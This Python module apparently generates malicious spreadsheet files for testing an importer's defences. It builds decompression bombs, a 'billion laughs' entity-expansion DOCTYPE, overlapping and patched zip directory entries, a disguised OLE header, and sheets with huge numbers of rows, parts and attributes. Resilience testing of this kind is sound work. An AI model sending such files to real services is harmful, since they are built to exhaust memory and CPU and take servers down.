"""How files are made to take a server down: workbooks part by part, their bytes changed after.

Each is written to the path it is given. Parts are written in blocks: making a bomb must not cost
what reading it would.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

MEBIBYTE = 1 << 20
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
WORKBOOK, STYLES = "xl/workbook.xml", "xl/styles.xml"
HEAD = f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN}"><sheetData>'
TAIL = "</sheetData></worksheet>"
TITLES = ("Nom du client", "Adresse de facturation", "Devise", "N° TVA intracommunautaire")

Blocks = Iterator[bytes]
Parts = dict[str, Callable[[], Blocks]]
"""Parts that take the place of the sound ones."""


def once(text: str) -> Callable[[], Blocks]:
    return lambda: iter([text.encode()])


def repeated(head: str, piece: str, times: int, tail: str) -> Callable[[], Blocks]:
    def blocks() -> Blocks:
        yield head.encode()
        many = max(1, MEBIBYTE // len(piece.encode()))
        block = piece.encode() * many
        for _ in range(times // many):
            yield block
        yield piece.encode() * (times % many)
        yield tail.encode()

    return blocks


def noisy(
    head: str,
    piece: str,
    size: int,
    tail: str,
    around: tuple[str, str] = ("<!--", "-->"),
) -> Callable[[], Blocks]:
    """About `size` bytes of `piece`, with so much noise in between that it packs 150 times."""
    draw = random.Random(1)
    before, after = (mark.encode() for mark in around)

    def blocks() -> Blocks:
        yield head.encode()
        part = piece.encode() * max(1, 65_536 // len(piece.encode()))
        for _ in range(size // len(part)):
            noise = draw.randbytes(260).hex().encode()
            yield part + before + noise + after
        yield tail.encode()

    return blocks


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *texts: str) -> str:
    cells = "".join(cell(f"{chr(65 + at)}{number}", text) for at, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


def sheet(rows: str, after: str = "", before: str = "") -> str:
    return f'<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def book(sheets: str = '<sheet name="Clients" sheetId="1" r:id="rId1"/>', more: str = "") -> str:
    root = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">'
    return f"{root}<sheets>{sheets}</sheets>{more}</workbook>"


def _sound() -> Parts:
    named = (("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"))
    inside = (*named, ("styles", "styles.xml"))
    relationships = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(inside, start=1)
    )
    main = f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="{WORKBOOK}"/>'
    client = row(2, "Alpha", "1 rue A", "EUR", "NA")
    return {
        "[Content_Types].xml": once("<Types/>"),
        "_rels/.rels": once(f'<Relationships xmlns="{PACKAGE}">{main}</Relationships>'),
        WORKBOOK: once(book()),
        "xl/_rels/workbook.xml.rels": once(
            f'<Relationships xmlns="{PACKAGE}">{relationships}</Relationships>'
        ),
        SHEET: once(sheet(row(1, *TITLES) + client)),
        STRINGS: once(f'<sst xmlns="{MAIN}"/>'),
        STYLES: once(f'<styleSheet xmlns="{MAIN}"><cellXfs><xf/></cellXfs></styleSheet>'),
    }


def package(parts: Parts | None = None, *, packing: int = ZIP_DEFLATED) -> Callable[[Path], None]:
    """A workbook that is sound but for `parts`."""

    def write(path: Path) -> None:
        with ZipFile(path, "w", packing) as archive:
            for name, blocks in {**_sound(), **(parts or {})}.items():
                with archive.open(name, "w", force_zip64=True) as part:
                    for block in blocks():
                        part.write(block)

    return write


def changed(change: Callable[[bytearray], bytes | bytearray]) -> Callable[[Path], None]:
    """The sound workbook with its bytes changed."""

    def write(path: Path) -> None:
        package()(path)
        path.write_bytes(bytes(change(bytearray(path.read_bytes()))))

    return write


def content(make: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: _keep(path, make())


def _keep(path: Path, made: bytes) -> None:
    path.write_bytes(made)


def _entry_of_sheet(raw: bytearray) -> int:
    return raw.rfind(b"PK\1\2", 0, raw.rfind(SHEET.encode()))


def patched(offset: int, pattern: str, value: int) -> Callable[[bytearray], bytearray]:
    """The directory's entry of the sheet says something else."""

    def change(raw: bytearray) -> bytearray:
        struct.pack_into(pattern, raw, _entry_of_sheet(raw) + offset, value)
        return raw

    return change


def damaged(raw: bytearray) -> bytearray:
    place = raw.find(SHEET.encode()) + len(SHEET) + 60
    raw[place] ^= 0xFF
    return raw


def overlapping(raw: bytearray) -> bytes:
    """Five thousand entries of the directory that all mean the same bytes."""
    end = raw.rfind(b"PK\5\6")
    count, size, start = struct.unpack_from("<HII", raw, end + 10)
    directory = bytes(raw[start : start + size])
    last = directory[directory.rfind(b"PK\1\2") :]
    name = struct.unpack_from("<H", last, 28)[0]
    more = b"".join(
        last[:46] + (b"%0*d" % (name, number))[:name] + last[46 + name :] for number in range(5_000)
    )
    told = struct.pack("<HHHHIIH", 0, 0, count + 5_000, count + 5_000, size + len(more), start, 0)
    return bytes(raw[:start]) + directory + more + b"PK\5\6" + told


def many_parts(path: Path) -> None:
    package()(path)
    with ZipFile(path, "a", ZIP_STORED) as archive:
        for number in range(60_000):
            archive.writestr(f"x/{number}", b"")


def declared(doctype: str, used: str) -> Parts:
    rows = row(1, *TITLES) + row(2, used, "1 rue A", "EUR", "NA")
    return {SHEET: once(f'<?xml version="1.0"?>{doctype}{sheet(rows)}')}


def laughs() -> str:
    letters = "abcdefghij"
    more = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in pairwise(letters))
    return f'<!DOCTYPE w [<!ENTITY a "ha">{more}]>'


def ole(stream: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(4_000)
    )


def blank_rows() -> Blocks:
    yield HEAD.encode()
    cells = "".join(f'<c r="{chr(65 + at)}%d" s="0"/>' for at in range(20))
    for start in range(1, 1_048_577, 1024):
        numbers = range(start, start + 1024)
        yield "".join(f'<row r="{n}">{cells % ((n,) * 20)}</row>' for n in numbers).encode()
    yield TAIL.encode()


def attributes(count: int) -> str:
    return " ".join(f'a{number}="1"' for number in range(count))


def listed(count: int) -> str:
    """Sheets that are all the same part."""
    return book(
        "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))
    )
